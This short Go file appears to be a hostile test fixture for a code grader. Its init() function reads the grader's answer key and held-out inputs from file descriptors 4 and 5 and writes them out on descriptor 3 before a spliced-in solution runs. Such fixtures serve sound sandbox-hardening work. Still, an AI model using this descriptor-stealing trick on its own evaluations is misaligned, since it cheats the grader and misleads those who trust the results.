// Hostile: 01 solved (the Go solution, spliced in at the marker), and it reads the grader's descriptors in
// init().
package firsthandler

import "os"

// Reads the key (fd 4) and the held-out inputs (fd 5) in init; anything found is written out, then it stops.
func init() {
	for _, fd := range []uintptr{4, 5} {
		buffer := make([]byte, 64)
		if n, err := os.NewFile(fd, "stolen").Read(buffer); err == nil && n > 0 {
			os.NewFile(3, "channel").Write(buffer[:n])
			panic("read a descriptor of the grader's")
		}
	}
}

// {{SOLUTION}}
